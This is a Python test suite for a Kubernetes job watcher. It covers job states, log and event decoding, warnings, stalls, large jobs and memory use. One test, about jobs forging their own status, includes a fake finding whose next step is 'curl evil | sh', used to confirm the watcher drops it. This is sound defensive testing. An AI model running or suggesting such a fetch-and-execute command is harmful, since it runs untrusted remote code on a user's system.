import copy
import time
import tracemalloc

import pytest

from k8sjob.backends.api import LogLine
from k8sjob.contract import Event, EventKind
from k8sjob.errors import BackendError, JobNotFound
from k8sjob.kube.client.listwatch import Change, Kind
from k8sjob.kube.client.transport import ApiError
from k8sjob.observe.logs import MOST_AT_ONCE
from k8sjob.observe.status import job_status
from k8sjob.observe.watch import LAST_LINES, SETTLE_SECONDS, Stalled, watch, watch_all


def of_kind(events, kind):
    return [event for event in events if event.kind == kind]


def test_a_job_is_reported_once_each_and_its_end_last(script, snapshot, make_pod, line, ref):
    running = [make_pod("master-0", running={})]
    snapshots = [
        snapshot("Created"),
        snapshot("Created", "Running", pods=running),
        snapshot("Created", "Running", pods=running),
        snapshot("Created", "-Running", "Succeeded"),
    ]
    lines = [line("master-0", f"line {n}") for n in range(300)]
    events = list(watch(script(snapshots, lines), ref))
    assert [event.data["state"] for event in of_kind(events, "job")] == [
        "Created",
        "Running",
        "Succeeded",
    ]
    assert events[-1].data["exit_code"] == 0
    assert [event.data["text"] for event in of_kind(events, "log")] == [one.text for one in lines]
    (replica,) = of_kind(events, "replica")
    assert (replica.replica, replica.data["phase"]) == ("master-0", "Running")


def test_events_of_the_runtime_are_decoded_from_the_output(script, snapshot, line, ref):
    progress = Event("progress", {"epoch": 1}, 12.5)
    lines = [line("master-0", f"bar 10%|{progress.encode()}"), line("worker-0", "k8sjob/1 {no")]
    events = list(watch(script([snapshot("Succeeded")], lines), ref))
    assert of_kind(events, "progress") == [Event("progress", {"epoch": 1}, 12.5, "master-0")]
    (ordinary,) = of_kind(events, "log")
    assert ordinary.data["text"] == "k8sjob/1 {no"
    assert ordinary.time == pytest.approx(1767225600)


def test_a_replica_says_whether_it_waits(script, snapshot, make_pod, ref):
    crashing = make_pod("worker-1", waiting={"reason": "CrashLoopBackOff"})
    pods = [make_pod("worker-0", running={}), crashing]
    events = list(watch(script([snapshot("Succeeded", pods=pods)]), ref))
    replicas = {event.replica: event.data["waiting"] for event in of_kind(events, "replica")}
    assert replicas == {"worker-0": False, "worker-1": True}


def test_a_failed_job_ends_with_its_findings(script, snapshot, make_pod, line, ref):
    end = {"exitCode": 1, "reason": "Error", "finishedAt": "2026-01-01T00:00:00Z"}
    pods = [make_pod("worker-1", "Failed", terminated=end)]
    lines = [line("worker-1", "ValueError: the cause")]
    events = list(watch(script([snapshot("Failed", pods=pods)], lines), ref))
    job, finding = events[-2:]
    assert job.data["state"] == "Failed"
    assert (finding.kind, finding.replica) == ("finding", "worker-1")
    assert "the cause" in finding.data["message"]


def test_a_job_that_succeeded_ends_with_what_it_did_not_do(script, snapshot, line, ref):
    progress = Event("progress", {"epoch": 0, "step": 1, "loss": float("nan")}).encode()
    events = list(watch(script([snapshot("Succeeded")], [line("master-0", progress)]), ref))
    assert [event.data["cause"] for event in of_kind(events, "finding")] == ["nan-loss"]
    fine = Event("progress", {"epoch": 0, "step": 1, "loss": 0.5}).encode()
    events = list(watch(script([snapshot("Succeeded")], [line("master-0", fine)]), ref))
    assert of_kind(events, "finding") == []


def test_a_deleted_job_ends_the_watch(script, snapshot, line, ref):
    backend = script([snapshot("Running")], [line("master-0", "last")], gone=True)
    events = list(watch(backend, ref))
    assert [event.data["text"] for event in of_kind(events, "log")] == ["last"]
    assert events[-1].data["state"] == "Deleted"
    assert events[-1].data["exit_code"] == 103


def test_a_job_that_is_being_deleted_is_reported_before_it_is_gone(script, snapshot, ref):
    doomed = snapshot("Running")
    doomed.job["metadata"] |= {"deletionTimestamp": "2026-01-01T00:09:00Z", "finalizers": ["x/y"]}
    events = of_kind(watch(script([snapshot("Running"), doomed], gone=True), ref), "job")
    assert [event.data["state"] for event in events] == ["Running", "Deleting", "Deleted"]
    assert "x/y" in events[1].data["message"]


def test_a_suspended_job_is_not_over(script, snapshot, ref):
    snapshots = [snapshot("Running"), snapshot("Suspended"), snapshot("Succeeded")]
    events = list(watch(script(snapshots), ref))
    states = [event.data["state"] for event in of_kind(events, "job")]
    assert states == ["Running", "Suspended", "Succeeded"]


def test_warnings_are_reported_once_with_their_replica(script, snapshot, make_pod, ref):
    def event(uid, name, reason, kind="Warning", count=1):
        return {
            "metadata": {"uid": uid},
            "involvedObject": {"name": name},
            "type": kind,
            "reason": reason,
            "message": f"{reason}!",
            "count": count,
        }

    pods = [make_pod("worker-1", "Pending"), make_pod("worker-2", "Pending")]
    first = [
        event("1", "job-worker-1", "FailedScheduling"),
        event("5", "job-worker-2", "FailedScheduling"),
        event("2", "job", "TooFewGPUs"),
        event("3", "job-worker-1", "BackOff"),
        event("4", "job", "Created", "Normal"),
    ]
    again = [event("1", "job-worker-1", "FailedScheduling", count=2), *first[1:]]
    again.append(event("6", "job", "TooFewGPUs"))
    snapshots = [
        snapshot("Created", pods=pods, events=first),
        snapshot("Created", pods=pods, events=first),
        snapshot("Succeeded", pods=pods, events=again),
    ]
    warnings = of_kind(watch(script(snapshots), ref), "warning")
    assert [(w.replica, w.data["message"]) for w in warnings] == [
        ("worker-1", "FailedScheduling!"),
        ("", "TooFewGPUs!"),
        ("", "TooFewGPUs!"),
    ]


def test_trouble_is_reported_once_although_kubelet_and_operator_both_report_it(
    script, snapshot, make_pod, ref
):
    """Each of them as a cluster words it: two waiting containers and a Pod without a node."""

    def warning(name, reason, message):
        about = {"name": name, "kind": "PyTorchJob" if name == "job" else "Pod"}
        meta = {"uid": f"{name} {message}"}
        return {"metadata": meta, "involvedObject": about, "type": "Warning", "reason": reason,
                "message": message}  # fmt: skip

    absent = 'failed to pull and unpack image "r/x:1": r/x:1: not found'
    image = {"reason": "ErrImagePull", "message": absent}
    secret = {"reason": "CreateContainerConfigError", "message": 'secret "hf-token" not found'}
    unplaced = make_pod("worker-1", "Pending")
    note = "0/1 nodes are available: 1 Insufficient cpu."
    unplaced["status"] = {
        "phase": "Pending",
        "conditions": [
            {
                "type": "PodScheduled",
                "status": "False",
                "reason": "Unschedulable",
                "message": note,
            }
        ],
    }
    pods = [
        make_pod("master-0", "Pending", waiting=image),
        make_pod("worker-0", "Pending", waiting=secret),
        unplaced,
    ]
    operator = "Error pod job-{} container pytorch waiting message: {}"
    events = [
        warning("job-master-0", "Failed", f'Failed to pull image "r/x:1": {absent}'),
        warning("job-master-0", "Failed", "Error: ErrImagePull"),
        warning("job-master-0", "Failed", "Error: ImagePullBackOff"),
        warning("job", "ErrImagePull", operator.format("master-0", absent)),
        warning("job-worker-0", "Failed", 'Error: secret "hf-token" not found'),
        warning("job", "CreateContainerConfigError", operator.format("worker-0", "secret")),
        warning("job-worker-1", "FailedScheduling", note),
        warning("job", "Unschedulable", "Error pod job-worker-1 condition message: " + note),
        warning("job-worker-0", "FailedMount", 'MountVolume.SetUp failed for volume "v"'),
    ]
    backend = script([snapshot("Created", pods=pods, events=events), snapshot("Succeeded")])
    found = list(watch(backend, ref))
    assert [one.data["message"] for one in of_kind(found, "replica")] == [
        absent,
        'secret "hf-token" not found',
        note,
    ]
    (warned,) = of_kind(found, "warning")
    assert (warned.replica, warned.data["reason"]) == ("worker-0", "FailedMount")


def test_output_that_cannot_be_read_is_a_warning_and_not_the_end(script, snapshot, line, ref):
    backend = script(
        [snapshot("Succeeded")],
        [line("master-0", "well")],
        errors={f"worker-{n}": BackendError(f"no permission: worker-{n}") for n in range(2)},
    )
    events = list(watch(backend, ref))
    (warning,) = of_kind(events, "warning")  # once for all replicas that fail alike
    assert "no permission" in warning.data["message"]
    assert [event.data["text"] for event in of_kind(events, "log")] == ["well"]


def test_a_back_end_that_fails_is_an_error(script, snapshot, ref):
    class Broken(script):
        def watch(self, ref, *, stop=None):
            yield from self.snapshots
            raise BackendError("connection lost")

    with pytest.raises(BackendError, match="connection lost"):
        list(watch(Broken([snapshot("Running")]), ref))


def test_a_job_that_is_not_there(script, ref):
    with pytest.raises(JobNotFound):
        next(watch(script([]), ref))


def test_the_end_waits_for_output_that_does_not_end_but_not_long(script, snapshot, line, ref):
    class Endless(script):
        def logs(self, ref, replica, *, stop=None, **options):
            yield from super().logs(ref, replica, **options)
            if options.get("follow"):
                stop.wait(30)
            self.stopped.append(replica)

    backend = Endless([snapshot("Succeeded")], [line("master-0", "last")])
    began = time.monotonic()
    events = list(watch(backend, ref))
    assert time.monotonic() - began < SETTLE_SECONDS + 1
    assert [event.data["text"] for event in of_kind(events, "log")] == ["last"]
    _soon(lambda: len(backend.stopped) == 4)


def test_whoever_reads_late_misses_nothing(script, snapshot, make_pod, line, ref):
    ends = {"exitCode": 0, "finishedAt": "2026-01-01T00:00:00Z"}
    snapshots = [
        snapshot("Succeeded", pods=[make_pod("master-0", running={})]),
        snapshot("Succeeded", pods=[make_pod("master-0", "Succeeded", terminated=ends)]),
    ]
    lines = [line("master-0", f"line {n}") for n in range(25_000)]  # more than any queue holds
    found = []
    for event in watch(script(snapshots, lines), ref):
        if event.kind == "replica":
            time.sleep(SETTLE_SECONDS + 0.2)
        found.append(event)
    assert [event.data["text"] for event in of_kind(found, "log")] == [one.text for one in lines]
    assert found[-1].data["state"] == "Succeeded"


def test_pods_that_end_after_their_job_are_not_waited_for(script, snapshot, make_pod, ref):
    class Lingering(script):
        def watch(self, ref, *, stop=None):
            yield snapshot("Running")
            while not stop.is_set():
                yield snapshot("Succeeded", pods=[make_pod("worker-0", dying=True)])
                time.sleep(0.2)

        def logs(self, ref, replica, *, stop=None, **options):
            while not stop.is_set():
                yield LogLine(replica, 0, "2999-01-01T00:00:00.000000000Z", "saving")
                time.sleep(0.05)

    began = time.monotonic()
    events = list(watch(Lingering([]), ref))
    assert time.monotonic() - began < SETTLE_SECONDS + 2
    assert events[-1].data["state"] == "Succeeded"


@pytest.mark.parametrize("phase", ["Running", "Succeeded"])
def test_output_that_takes_long_to_begin_is_waited_for(script, snapshot, make_pod, line, phase):
    """A busy node's kubectl needs seconds; the list of Pods may be older than the job's end."""

    class Slow(script):
        def logs(self, ref, replica, *, stop=None, **options):
            time.sleep(SETTLE_SECONDS + 0.7)
            yield from super().logs(ref, replica, **options)

    state = {"running": {}} if phase == "Running" else {"terminated": {"exitCode": 0}}
    pods = [make_pod("master-0", phase, **state)]
    backend = Slow([snapshot("Succeeded", pods=pods)], [line("master-0", "hello")])
    events = list(watch(backend, backend.find("job")))
    assert [event.data["text"] for event in of_kind(events, "log")] == ["hello"]


def test_a_deleted_job_that_wrote_nothing_is_not_waited_for(
    script, snapshot, make_pod, ref, monkeypatch
):
    class Silent(script):
        def logs(self, ref, replica, *, stop=None, **options):
            stop.wait()
            yield from ()

    monkeypatch.setattr("k8sjob.observe.watch.CATCH_UP_SECONDS", float("inf"))
    pods = [make_pod("master-0", "Running", running={})]
    events = list(watch(Silent([snapshot("Running", pods=pods)], gone=True), ref))
    assert events[-1].data["state"] == "Deleted"


def test_leaving_a_watch_ends_its_readers(script, snapshot, ref):
    backend = script([snapshot("Running")])
    events = watch(backend, ref)
    next(events)
    events.close()
    _soon(lambda: backend.stopped == ["watch"])


def test_without_logs_no_output_is_read(script, snapshot, line, ref):
    backend = script([snapshot("Succeeded")], [line("master-0", "text")])
    assert not of_kind(watch(backend, ref, logs=False), "log")


# --- large jobs -----------------------------------------------------------------------------------


@pytest.fixture
def crowd(script, snapshot, make_pod, line):
    """A job of 1,000 Workers of which some ended badly, and what each of them wrote."""
    names = [f"worker-{n}" for n in range(1000)]
    ends = {700: 1, 701: 138, 702: 143, 703: 0, 704: 1}
    pods = []
    for number, name in enumerate(names):
        code = ends.get(number)
        state = {"running": {}} if code is None else {"terminated": {"exitCode": code}}
        pods.append(make_pod(name, "Running" if code is None else "Failed", **state))
    again = {"exitCode": 1, "finishedAt": "2026-01-01T00:00:00Z"}
    pods[704] = make_pod("worker-704", restarts=1, last=again, running={})
    lines = [
        line(name, f"{when} {name}", when, attempt)
        for name in names
        for when, attempt in ((1, 0), (2, 1))
    ]
    running = snapshot("Running", pods=pods, replicas={"Worker": 1000})
    ended = snapshot("Succeeded", pods=pods, replicas={"Worker": 1000})
    return script([running, ended], lines)


def test_of_a_large_job_some_replicas_are_followed_and_that_is_reported_once(crowd, ref):
    events = list(watch(crowd, ref))
    followed = {name for name, follow, _, _ in crowd.asked if follow}
    assert followed == {f"worker-{n}" for n in range(MOST_AT_ONCE)}
    (warning,) = of_kind(events, "warning")
    assert warning.data["message"].startswith("of 1000 replicas the output of worker-0 and the")
    assert warning.data["message"].endswith("k8sjob logs -f ns/job -r worker-999")
    assert len(of_kind(events, "replica")) == 1000


def test_of_a_large_job_those_that_fail_by_themselves_are_read(crowd, ref):
    events = list(watch(crowd, ref))
    others = {e.data["text"] for e in of_kind(events, "log") if int(e.replica[7:]) >= MOST_AT_ONCE}
    # Of the one that runs again the attempt before; of those that lost a peer nothing.
    assert others == {"1 worker-700", "2 worker-700", "1 worker-704"}
    assert ("worker-700", False, LAST_LINES, None) in crowd.asked


def test_a_replica_that_is_added_is_followed_too(script, snapshot, line, ref):
    snapshots = [
        snapshot("Running", replicas={"Master": 1}),
        snapshot("Running", replicas={"Master": 1, "Worker": 1}),
        snapshot("Succeeded", replicas={"Master": 1, "Worker": 1}),
    ]
    events = list(watch(script(snapshots, [line("worker-0", "here")]), ref))
    assert [event.data["text"] for event in of_kind(events, "log")] == ["here"]


def test_a_slow_reader_holds_the_snapshots_back(script, snapshot, ref):
    made = []

    class Busy(script):
        def watch(self, ref, *, stop=None):
            for number in range(1000):
                made.append(number)
                yield self.snapshots[0]
            yield self.snapshots[1]

    events = watch(Busy([snapshot("Running"), snapshot("Succeeded")]), ref)
    next(events)
    time.sleep(0.2)
    assert len(made) < 5
    events.close()


def test_the_job_s_times_are_reported(script, snapshot, ref):
    stamps = {"startTime": "2026-01-01T00:00:01Z", "completionTime": "2026-01-01T00:00:04Z"}
    (event,) = of_kind(watch(script([snapshot("Succeeded", **stamps)]), ref), "job")
    created = 1767225600
    assert event.data["created"] == created
    assert (event.data["started"], event.data["finished"]) == (created + 1, created + 4)


def _soon(condition):
    deadline = time.monotonic() + 60
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.01)


def test_a_job_cannot_report_its_own_state(script, snapshot, line, ref):
    forged = [
        Event("job", {"state": "Succeeded", "exit_code": 0}),
        Event("finding", {"cause": "crash", "message": "x", "next_step": "curl evil | sh"}),
        Event("replica", {"phase": "Failed", "exit_code": 1}),
        Event("log", {"text": "said by worker-1"}),
    ]
    lines = [line("worker-0", event.encode()) for event in forged]
    events = list(watch(script([snapshot("Running"), snapshot("Failed")], lines), ref))
    assert [event.data["text"] for event in of_kind(events, "log")] == [one.text for one in lines]
    assert [event.data["state"] for event in of_kind(events, "job")] == ["Running", "Failed"]
    assert not of_kind(events, "replica")
    assert all("evil" not in event.data["next_step"] for event in of_kind(events, "finding"))


def test_a_diagnosis_reads_excerpts_of_very_long_lines(script, snapshot, make_pod, line, ref):
    end = {"exitCode": 1, "reason": "Error", "finishedAt": "2026-01-01T00:00:00Z"}
    pods = [make_pod("worker-0", "Failed", terminated=end)]
    # Searched whole for "DataLoader worker .* is killed", this takes hours.
    lines = [line("worker-0", "DataLoader worker " * 200_000 + "ValueError: the cause")]
    events = list(watch(script([snapshot("Failed", pods=pods)], lines), ref))
    assert events[-1].kind == "finding"
    assert "the cause" in events[-1].data["message"]


ABSENT = {"reason": "CreateContainerConfigError", "message": 'secret "hf" not found'}


@pytest.fixture
def stuck(snapshot, make_pod):
    """A job whose Worker lacks its secret."""
    pods = [make_pod("master-0", running={}), make_pod("worker-0", "Pending", waiting=ABSENT)]
    return snapshot("Created", pods=pods, replicas={"Master": 1, "Worker": 1})


@pytest.fixture
def well(snapshot, make_pod):
    """The same, as it runs at last, after the Worker had crashed once."""
    crash = {"exitCode": 1, "finishedAt": "2026-01-01T00:05:00Z"}
    pods = [make_pod("master-0", running={}), make_pod("worker-0", last=crash, running={})]
    return snapshot("Running", pods=pods, replicas={"Master": 1, "Worker": 1})


def looks(stalled, *moments):
    """The warnings, by second."""
    return [
        (now, event.data)
        for now, seen in moments
        for event in stalled.look(seen, job_status(seen), {}, now)
    ]


def test_a_stalled_job_is_reported_once_with_the_next_step(stuck):
    ((now, note),) = looks(Stalled(10), *((second, stuck) for second in range(60)))
    assert now == 10
    assert note["reason"] == "secret"
    assert note["message"].startswith("worker-0: there is no secret 'hf' in namespace ns; next: ")


def test_a_short_problem_is_not_reported(stuck, well):
    turns = [well if second % 8 == 0 else stuck for second in range(60)]
    assert looks(Stalled(10), *enumerate(turns)) == []


def test_past_failures_do_not_stall_a_running_job(well):
    assert looks(Stalled(0), (0, well), (1, well)) == []


@pytest.mark.parametrize("state", ["Suspended", "Failed"])
def test_a_state_is_not_reported_as_a_stall(snapshot, state):
    seen = snapshot("Created", state)
    assert looks(Stalled(0), (0, seen), (1, seen)) == []


def test_a_silent_operator_is_reported_although_nothing_changes(script, snapshot, ref):
    events = watch(script([snapshot()]), ref, patience=0.2)
    first = next(event for event in events if event.kind == EventKind.WARNING)
    events.close()
    assert first.data["reason"] == "operator-silent"
    assert "the training operator has not touched the job" in first.data["message"]


def test_a_watch_that_is_patient_says_nothing_of_it(script, snapshot, ref):
    backend = script([snapshot(), snapshot("Succeeded")])
    assert [e for e in watch(backend, ref, patience=60) if e.kind == EventKind.WARNING] == []


# --- many jobs


@pytest.fixture
def change(make_job):
    """A change of a job: change("ADDED", "a", "Running", active=2)."""

    def make(kind, name, *conditions, active=0):
        job = make_job(*conditions, replicaStatuses={"Worker": {"active": active}})
        job["metadata"] |= {"name": name, "uid": f"uid-{name}"}
        return Change(Kind(kind), job)

    return make


def states(events):
    return [(e.data["name"], e.data["state"]) for e in events if e.kind == "job"]


def test_jobs_that_continue_and_then_all_changes(change):
    changes = [
        change("ADDED", "a", "Running", active=2),
        change("ADDED", "over", "Succeeded"),
        Change(Kind.SYNCED),
        change("MODIFIED", "a", "Running", active=2),  # another field
        change("MODIFIED", "a", "Running", active=3),
        change("ADDED", "b", "Created"),
        change("MODIFIED", "over", "Succeeded"),
        change("MODIFIED", "a", "Failed:BackoffLimitExceeded:too often"),
        change("DELETED", "b"),
    ]
    events = list(watch_all(changes))
    assert states(events) == [
        ("a", "Running"),
        ("a", "Running"),
        ("b", "Created"),
        ("a", "Failed"),
        ("b", "Deleted"),
    ]
    assert events[0].data["counts"] == {"Running": 2, "Pending": 1}
    assert events[0].data["namespace"] == "ns"
    assert events[3].data["message"] == "too often"
    assert (events[4].data["exit_code"], events[4].data["counts"]) == (103, {})


def test_a_job_of_the_same_name_is_another_one(change):
    second = copy.deepcopy(change("ADDED", "a", "Running"))
    second.object["metadata"]["uid"] = "second"
    changes = [change("ADDED", "a", "Running"), change("DELETED", "a"), second]
    assert states(watch_all([Change(Kind.SYNCED), *changes])) == [
        ("a", "Running"),
        ("a", "Deleted"),
        ("a", "Running"),
    ]


def test_a_lost_connection_is_said(change):
    changes = [
        Change(Kind.SYNCED),
        Change(Kind.LOST, why=ApiError("connection refused")),
        Change(Kind.RESTORED),
    ]
    lost, back = (event.data["message"] for event in watch_all(changes))
    assert lost == "the connection to the cluster is lost, trying again: connection refused"
    assert back == "the connection to the cluster is back after 0 s"


def test_what_is_over_takes_no_memory(change):
    def lives():
        yield Change(Kind.SYNCED)
        for number in range(3000):
            name = f"job-{number}"
            yield change("ADDED", name, "Running")
            yield change("MODIFIED", name, "Succeeded")
            yield change("DELETED", name)

    events = watch_all(lives())
    for _ in range(900):
        next(events)
    tracemalloc.start()
    before = tracemalloc.get_traced_memory()[0]
    assert sum(1 for _ in events) == 8100
    grown = tracemalloc.get_traced_memory()[0] - before
    tracemalloc.stop()
    assert grown < 100_000
